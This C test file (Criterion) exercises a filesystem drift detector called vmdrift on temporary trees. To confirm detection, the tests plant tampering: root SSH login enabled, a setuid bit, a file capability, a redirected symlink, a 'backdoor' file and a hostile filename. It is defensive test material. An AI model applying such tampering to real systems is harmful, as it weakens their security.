/* The real vmdrift binary on real trees: every change kind, every error exit. */
#define _GNU_SOURCE
#include <criterion/criterion.h>
#include <fcntl.h>
#include <signal.h>
#include <sys/wait.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/xattr.h>
#include <time.h>
#include <unistd.h>

#include "helpers.h"
#include "baseline/vd_baseline.h"

#define A "\x1f"

static char *work, *tmpl, *vdb;

static void build_template(void) {
        th_write(tmpl, "etc/passwd", "root:x:0:0:root:/root:/bin/sh\nalice:x:1000:1000::/home/alice:/bin/sh\n");
        th_write(tmpl, "etc/group", "root:x:0:\nalice:x:1000:\n");
        th_write(tmpl, "etc/ssh/sshd_config", "PermitRootLogin no\nPasswordAuthentication no\n");
        th_write(tmpl, "etc/hostname", "template\n");
        th_write(tmpl, "usr/bin/tool", "#!/bin/sh\necho tool\n");
        th_write(tmpl, "usr/bin/ping", "ELF-ish");
        th_write(tmpl, "home/alice/.profile", "export PATH\n");
        th_write(tmpl, "var/log/old.log", "old\n");
        chmod(th_path(tmpl, "usr/bin/tool"), 0755);
        chown(th_path(tmpl, "home/alice"), 1000, 1000);
        chown(th_path(tmpl, "home/alice/.profile"), 1000, 1000);
        symlink("/usr/bin/tool", th_path(tmpl, "usr/bin/alias"));
        setxattr(th_path(tmpl, "etc/hostname"), "user.origin", "template", 8, 0);
        mkfifo(th_path(tmpl, "var/log/pipe"), 0600);
        mknod(th_path(tmpl, "dev-null"), S_IFCHR | 0666, makedev(1, 3));
}

static void setup(void) {
        work = th_mkdtemp();
        tmpl = th_join(work, "tmpl");
        vdb = th_join(work, "t.vdb");
        mkdir(tmpl, 0755);
        build_template();
        th_run r = th_vmdrift("baseline" A "capture" A "--dir" A "%s" A "-o" A "%s", tmpl, vdb);
        cr_assert_eq(r.status, 0, "capture failed: %s", r.err);
        cr_assert(strstr(r.out, "captured"), "%s", r.out);
        th_run_free(&r);
}

static void teardown(void) {
        th_rmtree(work);
        free(work);
        free(tmpl);
        free(vdb);
}

TestSuite(cli, .init = setup, .fini = teardown);

static th_run scan_json(void) { return th_vmdrift("scan" A "--baseline" A "%s" A "--dir" A "%s" A "--report" A "json", vdb, tmpl); }

Test(cli, an_unchanged_tree_has_no_drift_and_exits_0) {
        th_run r = th_vmdrift("scan" A "--baseline" A "%s" A "--dir" A "%s", vdb, tmpl);
        cr_assert_eq(r.status, 0, "%s%s", r.out, r.err);
        cr_assert(strstr(r.out, "No drift."), "%s", r.out);
        th_run_free(&r);
        r = scan_json();
        cr_assert_eq(r.status, 0);
        cr_assert_eq(th_lines_with(r.out, "\"event\":\"drift\"", NULL), 0, "%s", r.out);
        cr_assert_eq(th_lines_with(r.out, "\"event\":\"summary\"", "\"total\":0", "\"exit_code\":0", NULL), 1, "%s",
                     r.out);
        /* the scan says its peak memory (a process of this size: more than 1 MiB, less than 1 GiB) */
        const char *m = strstr(r.out, "\"max_rss_kb\":");
        cr_assert(m, "%s", r.out);
        long kb = strtol(m + 13, NULL, 10);
        cr_assert(kb > 1024 && kb < 1024 * 1024, "max_rss_kb %ld", kb);
        th_run_free(&r);
}

Test(cli, every_kind_of_planted_change_is_reported_old_to_new) {
        th_write(tmpl, "etc/ssh/sshd_config", "PermitRootLogin yes\nPasswordAuthentication no\n"); /* content */
        chmod(th_path(tmpl, "usr/bin/ping"), 04755);                                              /* mode */
        chown(th_path(tmpl, "etc/hostname"), 1000, 0);                                            /* owner */
        unlink(th_path(tmpl, "usr/bin/alias"));
        symlink("/tmp/evil", th_path(tmpl, "usr/bin/alias")); /* link target */
        setxattr(th_path(tmpl, "etc/hostname"), "user.origin", "tampered", 8, 0); /* xattr */
        const char cap[20] = {1, 0, 0, 2, 0x20};
        setxattr(th_path(tmpl, "usr/bin/tool"), "security.capability", cap, sizeof cap, 0); /* capability */
        unlink(th_path(tmpl, "var/log/old.log"));                                          /* removed */
        th_write(tmpl, "usr/local/bin/backdoor", "evil");                                   /* added */
        unlink(th_path(tmpl, "var/log/pipe"));
        th_write(tmpl, "var/log/pipe", "now a file"); /* type */
        th_write(tmpl, "home/alice/new\nline\xff", "x"); /* hostile name */

        th_run r = scan_json();
        cr_assert_eq(r.status, 1, "%s", r.err);
        const char *o = r.out;
        cr_assert_eq(th_lines_with(o, "\"path\":\"/etc/ssh/sshd_config\"", "\"change\":\"changed\"", "\"hash\":{\"old\":\"xxh3-128:",
                                   "\"size\":{\"old\":45,\"new\":46}", NULL),
                     1, "%s", o);
        cr_assert_eq(th_lines_with(o, "\"path\":\"/usr/bin/ping\"", "\"mode\":{\"old\":\"0644\",\"new\":\"4755\"}",
                                   "\"severity\":\"high\"", NULL),
                     1, "%s", o);
        cr_assert_eq(th_lines_with(o, "\"path\":\"/etc/hostname\"", "\"uid\":{\"old\":0,\"new\":1000}",
                                   "\"user\":{\"old\":\"root\",\"new\":\"alice\"}",
                                   "\"xattr.user.origin\":{\"old\":\"template\",\"new\":\"tampered\"}", NULL),
                     1, "%s", o);
        cr_assert_eq(th_lines_with(o, "\"path\":\"/usr/bin/alias\"",
                                   "\"target\":{\"old\":\"/usr/bin/tool\",\"new\":\"/tmp/evil\"}", NULL),
                     1, "%s", o);
        cr_assert_eq(th_lines_with(o, "\"path\":\"/usr/bin/tool\"", "\"xattr.security.capability\":{\"old\":null,\"new\":{\"b64\":",
                                   "\"severity\":\"high\"", NULL),
                     1, "%s", o);
        cr_assert_eq(th_lines_with(o, "\"path\":\"/var/log/old.log\"", "\"change\":\"removed\"", NULL), 1, "%s", o);
        cr_assert_eq(th_lines_with(o, "\"path\":\"/usr/local/bin/backdoor\"", "\"change\":\"added\"", NULL), 1, "%s", o);
        cr_assert_eq(th_lines_with(o, "\"path\":\"/usr/local\"", "\"change\":\"added\"", "\"type\":\"directory\"", NULL), 1,
                     "%s", o);
        cr_assert_eq(th_lines_with(o, "\"path\":\"/var/log/pipe\"", "\"type\":{\"old\":\"fifo\",\"new\":\"file\"}", NULL),
                     1, "%s", o);
        cr_assert_eq(th_lines_with(o, "\"path\":\"/home/alice/new\\nline\\ufffd\"", "\"path_b64\":", NULL), 1, "%s", o);
        cr_assert_eq(th_lines_with(o, "\"event\":\"summary\"", "\"exit_code\":1", NULL), 1, "%s", o);
        th_run_free(&r);

        r = th_vmdrift("scan" A "--baseline" A "%s" A "--dir" A "%s", vdb, tmpl);
        cr_assert_eq(r.status, 1);
        cr_assert(strstr(r.out, "mode       0644 -> 4755"), "%s", r.out);
        cr_assert(strstr(r.out, "target     \"/usr/bin/tool\" -> \"/tmp/evil\""), "%s", r.out);
        cr_assert(strstr(r.out, "/home/alice/new\\nline\\xff"), "%s", r.out);
        cr_assert(strstr(r.out, "Removed (1)"), "%s", r.out);
        th_run_free(&r);
}

Test(cli, times_inode_and_nlink_changes_are_reported) {
        struct timespec ts[2] = {{0, UTIME_OMIT}, {1600000000, 5}};
        utimensat(AT_FDCWD, th_path(tmpl, "etc/group"), ts, 0);
        link(th_path(tmpl, "usr/bin/ping"), th_path(tmpl, "usr/bin/ping2"));
        /* Replace a file by a copy: same content, new inode. */
        rename(th_path(tmpl, "home/alice/.profile"), th_path(tmpl, "home/alice/.p"));
        th_write(tmpl, "home/alice/.profile", "export PATH\n");
        chown(th_path(tmpl, "home/alice/.profile"), 1000, 1000);
        unlink(th_path(tmpl, "home/alice/.p"));
        th_run r = scan_json();
        cr_assert_eq(r.status, 1);
        cr_assert_eq(th_lines_with(r.out, "\"path\":\"/etc/group\"", "\"mtime\":{\"old\":", "\"new\":\"2020-09-13T12:26:40.000000005Z\"", "\"severity\":\"low\"", NULL), 1,
                     "%s", r.out);
        cr_assert_eq(th_lines_with(r.out, "\"path\":\"/usr/bin/ping\"", "\"nlink\":{\"old\":1,\"new\":2}", NULL), 1, "%s", r.out);
        cr_assert_eq(th_lines_with(r.out, "\"path\":\"/home/alice/.profile\"", "\"inode\":{\"old\":", NULL), 1, "%s", r.out);
        cr_assert_eq(th_lines_with(r.out, "\"path\":\"/home/alice/.profile\"", "\"hash\"", NULL), 0, "same content");
        th_run_free(&r);
        /* --ignore turns the noise of a copied tree off. */
        r = th_vmdrift("scan" A "--baseline" A "%s" A "--dir" A "%s" A "--report" A "json" A "--ignore" A "times,inode,nlink", vdb, tmpl);
        cr_assert_eq(th_lines_with(r.out, "\"path\":\"/home/alice/.profile\"", NULL), 0, "%s", r.out);
        cr_assert_eq(th_lines_with(r.out, "\"path\":\"/usr/bin/ping2\"", "\"change\":\"added\"", NULL), 1, "%s", r.out);
        th_run_free(&r);
}

Test(cli, fail_on_sets_the_exit_threshold) {
        struct timespec ts[2] = {{0, UTIME_OMIT}, {1600000000, 0}};
        utimensat(AT_FDCWD, th_path(tmpl, "etc/group"), ts, 0);
        th_run r = th_vmdrift("scan" A "--baseline" A "%s" A "--dir" A "%s" A "--fail-on" A "medium", vdb, tmpl);
        cr_assert_eq(r.status, 0, "low drift under --fail-on medium exits 0: %s", r.out);
        cr_assert(strstr(r.out, "/etc/group"), "but it is still reported");
        th_run_free(&r);
}

Test(cli, reports_go_to_several_sinks_at_once) {
        th_write(tmpl, "new", "x");
        char *j = th_join(work, "out.json"), *t = th_join(work, "out.txt");
        th_run r = th_vmdrift("scan" A "--baseline" A "%s" A "--dir" A "%s" A "--report" A "json:%s" A "--report" A "text:%s",
                              vdb, tmpl, j, t);
        cr_assert_eq(r.status, 1, "%s", r.err);
        cr_assert_str_eq(r.out, "", "nothing on stdout when every report goes to a file");
        th_run_free(&r);
        r = th_exec((const char *const[]){"cat", j, t, NULL});
        cr_assert_eq(th_lines_with(r.out, "\"path\":\"/new\"", NULL), 1);
        cr_assert(strstr(r.out, "Added (1)"));
        th_run_free(&r);
        free(j);
        free(t);
}

Test(cli, a_failed_capture_leaves_the_existing_baseline_untouched) {
        th_run r = th_exec((const char *const[]){"sha256sum", vdb, NULL});
        char *before = strdup(r.out);
        th_run_free(&r);
        char *missing = th_join(work, "no-such-dir");
        r = th_vmdrift("baseline" A "capture" A "--dir" A "%s" A "-o" A "%s", missing, vdb);
        cr_assert_eq(r.status, 3);
        cr_assert(strstr(r.err, "no-such-dir") && strstr(r.err, "No such file"), "%s", r.err);
        th_run_free(&r);
        r = th_exec((const char *const[]){"sha256sum", vdb, NULL});
        cr_assert_str_eq(r.out, before);
        th_run_free(&r);
        free(before);
        free(missing);
}

Test(cli, runtime_errors_exit_3_with_a_clear_message) {
        char *missing = th_join(work, "gone");
        th_run r = th_vmdrift("scan" A "--baseline" A "%s" A "--dir" A "%s", vdb, missing);
        cr_assert_eq(r.status, 3);
        cr_assert(strstr(r.err, "cannot open directory") && strstr(r.err, "gone"), "%s", r.err);
        th_run_free(&r);

        th_write(work, "notabaseline", "just text\n");
        char *nb = th_join(work, "notabaseline");
        r = th_vmdrift("scan" A "--baseline" A "%s" A "--dir" A "%s", nb, tmpl);
        cr_assert_eq(r.status, 3);
        cr_assert(strstr(r.err, "not a vmdrift baseline"), "%s", r.err);
        th_run_free(&r);

        th_run c = th_exec((const char *const[]){"sh", "-c", "cp \"$0\" \"$0.t\" && truncate -s 5000 \"$0.t\"", vdb, NULL});
        th_run_free(&c);
        r = th_vmdrift("scan" A "--baseline" A "%s.t" A "--dir" A "%s", vdb, tmpl);
        cr_assert_eq(r.status, 3, "truncated: %s", r.err);
        cr_assert(strstr(r.err, "t.vdb.t"), "%s", r.err);
        th_run_free(&r);

        c = th_exec((const char *const[]){"sqlite3", vdb, "PRAGMA user_version=99", NULL});
        th_run_free(&c);
        r = th_vmdrift("baseline" A "show" A "%s", vdb);
        cr_assert_eq(r.status, 3);
        cr_assert(strstr(r.err, "newer baseline schema 99"), "%s", r.err);
        th_run_free(&r);
        free(missing);
        free(nb);
}

Test(cli, usage_errors_exit_2) {
        th_run r = th_vmdrift("scan" A "--dir" A "%s", tmpl);
        cr_assert_eq(r.status, 2);
        cr_assert(strstr(r.err, "--baseline"), "%s", r.err);
        th_run_free(&r);
        r = th_vmdrift("scan" A "--baseline" A "%s" A "--dir" A "%s" A "--report" A "xml", vdb, tmpl);
        cr_assert_eq(r.status, 2);
        cr_assert(strstr(r.err, "unknown report 'xml'"), "%s", r.err);
        th_run_free(&r);
        r = th_vmdrift("scan" A "--baseline" A "%s" A "--dir" A "%s" A "--ignore" A "shaa256", vdb, tmpl);
        cr_assert_eq(r.status, 2);
        cr_assert(strstr(r.err, "unknown attribute 'shaa256'"), "%s", r.err);
        th_run_free(&r);
        r = th_vmdrift("frobnicate");
        cr_assert_eq(r.status, 2);
        th_run_free(&r);
        r = th_vmdrift("scan" A "--baseline" A "%s" A "--imgae" A "x.qcow2", vdb);
        cr_assert_eq(r.status, 2);
        cr_assert(strstr(r.err, "vmdrift scan: option '--imgae' is unknown") && strstr(r.err, "Try 'vmdrift scan --help'"),
                  "%s", r.err);
        cr_assert_lt(strlen(r.err), 200, "one line and a hint, not the whole help: %s", r.err);
        th_run_free(&r);
        r = th_vmdrift("baseline" A "capture" A "--dir" A "%s", tmpl);
        cr_assert_eq(r.status, 2);
        cr_assert(strstr(r.err, "-o FILE"), "%s", r.err);
        th_run_free(&r);
}

Test(cli, help_on_every_command_and_version) {
        const char *cmds[] = {"--help", "scan" A "--help", "baseline" A "--help", "baseline" A "capture" A "--help",
                              "baseline" A "show" A "--help"};
        for (size_t i = 0; i < sizeof cmds / sizeof *cmds; i++) {
                th_run r = th_vmdrift("%s", cmds[i]);
                cr_assert_eq(r.status, 0, "%s", cmds[i]);
                cr_assert(strstr(r.out, "usage: vmdrift"), "%s", r.out);
                th_run_free(&r);
        }
        th_run r = th_vmdrift("scan" A "--help");
        cr_assert(strstr(r.out, "exit codes"), "exit codes are documented in --help");
        th_run_free(&r);
        r = th_vmdrift("--version");
        cr_assert_eq(r.status, 0);
        cr_assert(strncmp(r.out, "vmdrift ", 8) == 0);
        th_run_free(&r);
}

Test(cli, baseline_show_lists_metadata_and_entries) {
        th_run r = th_vmdrift("baseline" A "show" A "%s" A "--entries", vdb);
        cr_assert_eq(r.status, 0, "%s", r.err);
        char want_schema[64];
        snprintf(want_schema, sizeof want_schema, "schema:          %d\n", VD_BASELINE_SCHEMA);
        cr_assert(strstr(r.out, want_schema), "%s", r.out);
        cr_assert(strstr(r.out, "xxh3-128"), "%s", r.out);
        cr_assert(strstr(r.out, "/usr/bin/alias -> /usr/bin/tool"), "%s", r.out);
        cr_assert(strstr(r.out, "resolved through the source's own passwd/group"), "%s", r.out);
        th_run_free(&r);
}

Test(cli, sha256_baselines_scan_with_sha256) {
        char *s = th_join(work, "s.vdb");
        th_run r = th_vmdrift("baseline" A "capture" A "--dir" A "%s" A "-o" A "%s" A "--hash" A "sha256" A "-q", tmpl, s);
        cr_assert_eq(r.status, 0, "%s", r.err);
        cr_assert_str_eq(r.out, "", "-q prints nothing");
        th_run_free(&r);
        th_write(tmpl, "etc/hostname", "changed\n");
        r = th_vmdrift("scan" A "--baseline" A "%s" A "--dir" A "%s" A "--report" A "json", s, tmpl);
        cr_assert_eq(r.status, 1);
        cr_assert_eq(th_lines_with(r.out, "\"path\":\"/etc/hostname\"", "\"hash\":{\"old\":\"sha256:", NULL), 1, "%s", r.out);
        th_run_free(&r);
        free(s);
}

Test(cli, signed_baselines_are_verified_and_tampering_exits_3) {
        char *k = th_join(work, "k"), *s = th_join(work, "s.vdb");
        th_run r = th_vmdrift("key" A "generate" A "--out" A "%s", k);
        cr_assert_eq(r.status, 0, "%s", r.err);
        th_run_free(&r);
        r = th_vmdrift("baseline" A "capture" A "--dir" A "%s" A "-o" A "%s" A "--sign-key" A "%s", tmpl, s, k);
        cr_assert_eq(r.status, 0, "%s", r.err);
        cr_assert(strstr(r.out, "signed with key"), "%s", r.out);
        th_run_free(&r);
        r = th_vmdrift("scan" A "--baseline" A "%s" A "--dir" A "%s" A "--verify-key" A "%s.pub" A "--report" A "json", s, tmpl, k);
        cr_assert_eq(r.status, 0, "%s", r.err);
        cr_assert_eq(th_lines_with(r.out, "\"event\":\"summary\"", "\"baseline_verified\":true", NULL), 1, "%s", r.out);
        th_run_free(&r);
        /* No key: the scan runs and says the baseline is unverified. */
        r = th_vmdrift("scan" A "--baseline" A "%s" A "--dir" A "%s", s, tmpl);
        cr_assert_eq(r.status, 0);
        cr_assert(strstr(r.out, "baseline signature unverified"), "%s", r.out);
        th_run_free(&r);
        /* One row edited with the sqlite3 tool. */
        th_run c = th_exec((const char *const[]){"sqlite3", s, "UPDATE entries SET uid=0 WHERE uid=1000", NULL});
        th_run_free(&c);
        r = th_vmdrift("scan" A "--baseline" A "%s" A "--dir" A "%s" A "--verify-key" A "%s.pub", s, tmpl, k);
        cr_assert_eq(r.status, 3);
        cr_assert(strstr(r.err, "modified"), "%s", r.err);
        th_run_free(&r);
        r = th_vmdrift("baseline" A "show" A "%s" A "--verify-key" A "%s.pub", vdb, k);
        cr_assert_eq(r.status, 3, "the unsigned baseline is refused when a key is given");
        cr_assert(strstr(r.err, "not signed"), "%s", r.err);
        th_run_free(&r);
        free(k);
        free(s);
}

Test(cli, export_is_stable_and_never_leaks_the_hash_key) {
        th_run a = th_vmdrift("baseline" A "export" A "%s", vdb), b = th_vmdrift("baseline" A "export" A "%s", vdb);
        cr_assert_eq(a.status, 0, "%s", a.err);
        cr_assert_str_eq(a.out, b.out, "the same baseline exports to the same bytes");
        cr_assert_eq(th_lines_with(a.out, "\"record\":\"baseline\"", NULL), 1);
        cr_assert_eq(th_lines_with(a.out, "\"record\":\"entry\"", "\"path\":\"/usr/bin/alias\"", "\"target\":\"/usr/bin/tool\"", NULL), 1, "%s", a.out);
        cr_assert_null(strstr(a.out, "hash_key"));
        th_run k = th_exec((const char *const[]){"sqlite3", vdb, "SELECT value FROM meta WHERE key='hash_key'", NULL});
        k.out[strcspn(k.out, "\n")] = '\0';
        cr_assert_gt(strlen(k.out), 10);
        cr_assert_null(strstr(a.out, k.out), "the key's bytes appear nowhere in the export");
        th_run_free(&k);
        th_run_free(&a);
        th_run_free(&b);
}

Test(cli, diff_of_two_baselines_reports_template_changes) {
        char *v2 = th_join(work, "v2.vdb"), *other = th_join(work, "other.vdb");
        th_write(tmpl, "etc/motd", "v2\n");
        th_write(tmpl, "etc/hostname", "template-v2\n");
        th_run r = th_vmdrift("baseline" A "capture" A "-q" A "--dir" A "%s" A "-o" A "%s" A "--key-from" A "%s", tmpl, v2, vdb);
        cr_assert_eq(r.status, 0, "%s", r.err);
        th_run_free(&r);
        r = th_vmdrift("baseline" A "diff" A "%s" A "%s" A "--report" A "json", vdb, v2);
        cr_assert_eq(r.status, 1, "%s", r.err);
        cr_assert_eq(th_lines_with(r.out, "\"path\":\"/etc/motd\"", "\"change\":\"added\"", NULL), 1, "%s", r.out);
        cr_assert_eq(th_lines_with(r.out, "\"path\":\"/etc/hostname\"", "\"hash\":{", NULL), 1, "%s", r.out);
        cr_assert_eq(th_lines_with(r.out, "\"event\":\"warning\"", NULL), 0, "%s", r.out);
        th_run_free(&r);
        /* Independent keys: no content claims, and a warning that says why. */
        r = th_vmdrift("baseline" A "capture" A "-q" A "--dir" A "%s" A "-o" A "%s", tmpl, other);
        th_run_free(&r);
        r = th_vmdrift("baseline" A "diff" A "%s" A "%s" A "--report" A "json", v2, other);
        cr_assert_eq(r.status, 0, "same tree, different keys: no drift: %s", r.out);
        cr_assert_eq(th_lines_with(r.out, "\"event\":\"warning\"", "different hash keys", NULL), 1, "%s", r.out);
        th_run_free(&r);
        free(v2);
        free(other);
}

Test(cli, accept_takes_in_chosen_changes_with_a_reason_and_never_in_place) {
        char *k = th_join(work, "k"), *s = th_join(work, "s.vdb"), *n1 = th_join(work, "n1.vdb"), *n2 = th_join(work, "n2.vdb");
        th_run r = th_vmdrift("key" A "generate" A "--out" A "%s", k);
        th_run_free(&r);
        r = th_vmdrift("baseline" A "capture" A "-q" A "--dir" A "%s" A "-o" A "%s" A "--sign-key" A "%s", tmpl, s, k);
        cr_assert_eq(r.status, 0, "%s", r.err);
        th_run_free(&r);
        th_write(tmpl, "etc/ssh/sshd_config", "Port 2222\n");
        th_write(tmpl, "opt/app/new.conf", "x\n");

        r = th_vmdrift("baseline" A "accept" A "--baseline" A "%s" A "--dir" A "%s" A "-o" A "%s", s, tmpl, n1);
        cr_assert_eq(r.status, 2, "a reason is required");
        th_run_free(&r);
        r = th_vmdrift("baseline" A "accept" A "--baseline" A "%s" A "--dir" A "%s" A "-o" A "%s" A "--reason" A "x", s, tmpl, s);
        cr_assert_eq(r.status, 2);
        cr_assert(strstr(r.err, "never rewrites a baseline in place"), "%s", r.err);
        th_run_free(&r);

        /* Only /etc/ssh: the new /opt tree stays drift. */
        r = th_vmdrift("baseline" A "accept" A "--baseline" A "%s" A "--dir" A "%s" A "-o" A "%s" A "--path" A "/etc/ssh" A
                       "--reason" A "CHG-1234 move sshd to 2222" A "--sign-key" A "%s" A "--verify-key" A "%s.pub",
                       s, tmpl, n1, k, k);
        cr_assert_eq(r.status, 0, "%s", r.err);
        cr_assert(strstr(r.out, "accepted 1 change"), "%s", r.out);
        th_run_free(&r);
        r = th_vmdrift("scan" A "--baseline" A "%s" A "--dir" A "%s" A "--verify-key" A "%s.pub" A "--report" A "json", n1, tmpl, k);
        cr_assert_eq(r.status, 1, "%s", r.err);
        cr_assert_eq(th_lines_with(r.out, "\"path\":\"/etc/ssh/sshd_config\"", NULL), 0, "accepted: %s", r.out);
        cr_assert_eq(th_lines_with(r.out, "\"path\":\"/opt/app/new.conf\"", "\"added\"", NULL), 1, "not accepted: %s", r.out);
        th_run_free(&r);
        r = th_vmdrift("baseline" A "show" A "%s" A "--verify-key" A "%s.pub", n1, k);
        cr_assert_eq(r.status, 0, "%s", r.err);
        cr_assert(strstr(r.out, "reason: CHG-1234 move sshd to 2222") && strstr(r.out, "signed by"), "%s", r.out);
        th_run_free(&r);

        /* Everything, on top of n1: history keeps both records; the rescan is clean. */
        r = th_vmdrift("baseline" A "accept" A "--baseline" A "%s" A "--dir" A "%s" A "-o" A "%s" A "--reason" A "app v2", n1, tmpl, n2);
        cr_assert_eq(r.status, 0, "%s", r.err);
        th_run_free(&r);
        r = th_vmdrift("scan" A "--baseline" A "%s" A "--dir" A "%s", n2, tmpl);
        cr_assert_eq(r.status, 0, "%s", r.out);
        th_run_free(&r);
        r = th_vmdrift("baseline" A "show" A "%s", n2);
        cr_assert_eq(th_lines_with(r.out, "accepted:", NULL), 2, "%s", r.out);
        th_run_free(&r);
        free(k);
        free(s);
        free(n1);
        free(n2);
}

/* Run argv with VMDRIFT_TEST_STOP_AT=point: it stops itself there (SIGSTOP),
 * and is killed with SIGKILL at that exact step. Returns true if it did
 * reach the point (it must: the test fails otherwise). */
static bool kill_at(const char *const argv[], const char *point) {
        pid_t pid = fork();
        if (pid == 0) {
                int devnull = open("/dev/null", O_WRONLY);
                dup2(devnull, 1);
                dup2(devnull, 2);
                setenv("VMDRIFT_TEST_STOP_AT", point, 1);
                execv(argv[0], (char *const *)argv);
                _exit(127);
        }
        int st = 0;
        waitpid(pid, &st, WUNTRACED);
        bool stopped = WIFSTOPPED(st);
        kill(pid, SIGKILL);
        if (stopped)
                waitpid(pid, &st, 0);
        return stopped;
}

Test(cli, kill_9_during_capture_or_accept_never_leaves_a_bad_baseline, .timeout = 300) {
        for (int i = 0; i < 600; i++) {
                char rel[64];
                snprintf(rel, sizeof rel, "bulk/d%d/f%d", i % 60, i);
                th_write(tmpl, rel, "some content to hash\n");
        }
        char *k = th_join(work, "k"), *t = th_join(work, "target.vdb"), *pub;
        asprintf(&pub, "%s.pub", k);
        th_run r = th_vmdrift("key" A "generate" A "--out" A "%s", k);
        th_run_free(&r);
        r = th_vmdrift("baseline" A "capture" A "-q" A "--dir" A "%s" A "-o" A "%s" A "--sign-key" A "%s", tmpl, t, k);
        cr_assert_eq(r.status, 0, "%s", r.err);
        th_run_free(&r);
        th_write(tmpl, "bulk/changed", "drift\n");
        char *acc = th_join(work, "acc.vdb");
        /* Every step of writing a baseline, for a capture that rewrites its
         * own target in place and for an accept that writes a new one. */
        static const char *const points[] = {"scan:walked", "baseline-write:temp", "baseline-write:rows",
                                             "baseline-write:closed", "baseline-write:renamed"};
        for (size_t i = 0; i < 2 * sizeof points / sizeof points[0]; i++) {
                const char *point = points[i / 2];
                bool accept = i % 2;
                const char *cap[] = {VMDRIFT_BIN_PATH, "baseline", "capture", "-q", "--dir", tmpl, "-o", t,
                                     "--key-from", t, "--sign-key", k, NULL};
                const char *ac[] = {VMDRIFT_BIN_PATH, "baseline", "accept", "-q", "--baseline", t, "--dir", tmpl,
                                    "-o", acc, "--reason", "crash test", "--sign-key", k, NULL};
                unlink(acc);
                cr_assert(kill_at(accept ? ac : cap, point), "%s never reached %s", accept ? "accept" : "capture",
                          point);
                r = th_vmdrift("baseline" A "show" A "%s" A "--verify-key" A "%s", t, pub);
                cr_assert_eq(r.status, 0, "killed at %s: the baseline must still load and verify: %s", point, r.err);
                th_run_free(&r);
                bool renamed = strcmp(point, "baseline-write:renamed") == 0;
                if (accept) {
                        cr_assert_eq(access(acc, F_OK) == 0, renamed,
                                     "killed at %s: the new baseline exists only once renamed into place", point);
                        if (renamed) {
                                r = th_vmdrift("baseline" A "show" A "%s" A "--verify-key" A "%s", acc, pub);
                                cr_assert_eq(r.status, 0, "an accepted baseline that exists is whole: %s", r.err);
                                th_run_free(&r);
                        }
                }
        }
        free(k);
        free(t);
        free(pub);
        free(acc);
}

Test(cli, a_template_rebuild_keeps_each_guests_accepted_changes) {
        char *guest = th_join(work, "guest"), *gvdb = th_join(work, "guest.vdb");
        th_run c = th_exec((const char *const[]){"cp", "-a", tmpl, guest, NULL});
        th_run_free(&c);
        th_write(guest, "etc/app.conf", "guest-only\n");
        unlink(th_path(guest, "var/log/old.log"));
        th_run r = th_vmdrift("baseline" A "accept" A "-q" A "--baseline" A "%s" A "--dir" A "%s" A "-o" A "%s" A "--derive" A
                              "--reason" A "guest app config",
                              vdb, guest, gvdb);
        cr_assert_eq(r.status, 0, "%s", r.err);
        th_run_free(&r);
        r = th_vmdrift("baseline" A "show" A "%s", gvdb);
        cr_assert(strstr(r.out, "derived from:"), "%s", r.out);
        th_run_free(&r);

        /* Rebuild the template in place with a patch (same key); the guest gets it too. */
        th_write(tmpl, "usr/bin/patched", "v2\n");
        th_write(guest, "usr/bin/patched", "v2\n");
        /* Same package, same mtime: two writes a few ms apart may land in
         * different ticks of the kernel's coarse clock. */
        struct timespec pts[2] = {{0, UTIME_OMIT}, {1700000000, 0}};
        utimensat(AT_FDCWD, th_path(tmpl, "usr/bin/patched"), pts, 0);
        utimensat(AT_FDCWD, th_path(guest, "usr/bin/patched"), pts, 0);
        r = th_vmdrift("baseline" A "capture" A "-q" A "--dir" A "%s" A "-o" A "%s" A "--key-from" A "%s", tmpl, vdb, vdb);
        cr_assert_eq(r.status, 0, "%s", r.err);
        th_run_free(&r);
        r = th_vmdrift("scan" A "--baseline" A "%s" A "--dir" A "%s" A "--report" A "json" A "--ignore" A "ctime,inode", gvdb, guest);
        cr_assert_eq(r.status, 0, "template v2 + the guest's deltas describe the guest exactly: %s", r.out);
        th_run_free(&r);
        /* The guest's accepted changes are still deltas: drift them and they show. */
        th_write(guest, "etc/app.conf", "changed again\n");
        r = th_vmdrift("scan" A "--baseline" A "%s" A "--dir" A "%s" A "--report" A "json" A "--ignore" A "ctime,inode", gvdb, guest);
        cr_assert_eq(r.status, 1);
        cr_assert_eq(th_lines_with(r.out, "\"event\":\"drift\"", NULL), 1, "%s", r.out);
        cr_assert_eq(th_lines_with(r.out, "\"path\":\"/etc/app.conf\"", "\"hash\"", NULL), 1, "%s", r.out);
        th_run_free(&r);

        /* A rebuild with a fresh key would make every hash incomparable: refused, with advice. */
        r = th_vmdrift("baseline" A "capture" A "-q" A "--dir" A "%s" A "-o" A "%s", tmpl, vdb);
        th_run_free(&r);
        r = th_vmdrift("scan" A "--baseline" A "%s" A "--dir" A "%s", gvdb, guest);
        cr_assert_eq(r.status, 3);
        cr_assert(strstr(r.err, "another hash key") && strstr(r.err, "--key-from"), "%s", r.err);
        th_run_free(&r);
        free(guest);
        free(gvdb);
}

Test(cli, selinux_labels_and_acls_are_recorded_and_reported) {
        const char *f = th_path(tmpl, "etc/group");
        th_run r = th_exec((const char *const[]){"setfattr", "-n", "security.selinux", "-v", "system_u:object_r:etc_t:s0", f, NULL});
        if (r.status != 0) {
                th_run_free(&r);
                cr_skip_test("this kernel does not let us set security.selinux");
        }
        th_run_free(&r);
        char *v1 = th_join(work, "v1.vdb");
        r = th_vmdrift("baseline" A "capture" A "-q" A "--dir" A "%s" A "-o" A "%s", tmpl, v1);
        th_run_free(&r);
        r = th_exec((const char *const[]){"setfattr", "-n", "security.selinux", "-v", "system_u:object_r:shadow_t:s0", f, NULL});
        th_run_free(&r);
        r = th_exec((const char *const[]){"setfacl", "-m", "u:1000:rw", f, NULL});
        cr_assert_eq(r.status, 0, "%s", r.err);
        th_run_free(&r);
        r = th_vmdrift("scan" A "--baseline" A "%s" A "--dir" A "%s" A "--report" A "json", v1, tmpl);
        cr_assert_eq(r.status, 1);
        cr_assert_eq(th_lines_with(r.out, "\"path\":\"/etc/group\"",
                                   "\"xattr.security.selinux\":{\"old\":\"system_u:object_r:etc_t:s0\",\"new\":\"system_u:object_r:shadow_t:s0\"}",
                                   "\"xattr.system.posix_acl_access\":{\"old\":null,\"new\":{\"b64\":", NULL),
                     1, "%s", r.out);
        th_run_free(&r);
        free(v1);
}

static char *sha_of(const char *path) {
        th_run r = th_exec((const char *const[]){"sha256sum", path, NULL});
        cr_assert_eq(r.status, 0, "%s", r.err);
        free(r.err);
        return r.out;
}

